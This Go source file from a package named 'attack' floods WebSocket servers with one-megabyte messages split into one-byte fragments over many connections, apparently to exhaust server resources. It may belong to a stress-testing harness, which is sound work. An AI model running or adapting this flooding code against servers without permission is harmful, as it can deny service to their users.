//go:build linux

package attack

// megabyte is the largest message that a server accepts by default.
const megabyte = 1_000_000

// fragments sends messages of a megabyte in fragments of one byte.
func fragments(f *Field) {
	const first, whole = 1, 1000 // a piece has so many fragments
	begin := appendFrame(nil, opText, []byte("4"))
	var piece []byte
	for range whole {
		piece = appendFrame(piece, opCont, []byte("x"))
	}
	end := appendFrame(nil, final|opCont, []byte("x"))
	f.onEach(2, 0, func(c *raw) error {
		if err := c.webSocket(false); err != nil {
			return err
		}
		go func() { _ = c.hold() }()
		if _, err := c.Write(begin); err != nil {
			return err
		}
		for range (megabyte-first)/whole - 1 {
			if _, err := c.Write(piece); err != nil {
				return err
			}
			f.count("fragments", whole)
		}
		if _, err := c.Write(end); err != nil {
			return err
		}
		f.count("messages", 1)
		return nil
	})
}
